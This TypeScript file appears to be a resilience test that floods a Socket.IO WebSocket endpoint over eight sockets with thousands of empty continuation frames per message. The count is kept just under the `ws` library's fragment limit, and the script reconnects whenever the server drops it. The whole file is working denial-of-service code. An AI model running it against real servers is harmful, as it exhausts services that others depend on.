// A process of its own, so that its work does not delay the requests that are measured: node fragmentAttack.ts URL MS
import { get } from 'node:http';
import type { Duplex } from 'node:stream';

const SOCKETS = 8;
/** Below the 16,384 at which `ws` itself ends a connection. */
const FRAGMENTS = 15_000;
/** Frames are written as bytes, because the client of `ws` would be slower than the server. */
const EMPTY_FRAME = [0x80, 0, 0, 0, 0]; // masked, length 0, mask of zeros
const TEXT = 0x01;
const CONTINUATION = 0x00;
const UNFINISHED_MESSAGE = Buffer.from([
  TEXT,
  ...EMPTY_FRAME,
  ...Array.from({ length: FRAGMENTS }, () => [CONTINUATION, ...EMPTY_FRAME]).flat(),
]);
const LAST_FRAME = Buffer.from([0x80, ...EMPTY_FRAME]); // ends the message, so that the next one may begin

const [url, ms] = process.argv.slice(2);
const end = performance.now() + Number(ms);
let closedByServer = 0;
await Promise.all(Array.from({ length: SOCKETS }, attack));
process.send?.({ closedByServer });
process.disconnect?.();

/** Sends fragments until the end, and connects again when the server closes the connection. */
async function attack(): Promise<void> {
  while (performance.now() < end) {
    const socket = await upgrade();
    if (!socket) continue;
    socket.on('error', () => undefined); // closed while fragments are on their way
    const closed = new Promise((done) => socket.once('close', done));
    const send = () =>
      new Promise((sent) => socket.write(UNFINISHED_MESSAGE, () => socket.write(LAST_FRAME, sent)));
    while (!socket.destroyed && !socket.readableEnded && performance.now() < end)
      await Promise.race([send(), closed]);
    if (performance.now() < end) closedByServer += 1;
    socket.destroy();
  }
}

/** Null when the server refuses the connection. */
function upgrade(): Promise<Duplex | null> {
  return new Promise((done) => {
    const request = get(`${url}/socket.io/?EIO=4&transport=websocket`, {
      headers: {
        connection: 'Upgrade',
        upgrade: 'websocket',
        'sec-websocket-version': '13',
        'sec-websocket-key': Buffer.from('sixteen bytes ok').toString('base64'),
      },
    });
    request.on('upgrade', (_response, socket) => done(socket.resume()));
    request.on('response', (response) => done(response.resume() && null));
    request.on('error', () => done(null));
  });
}
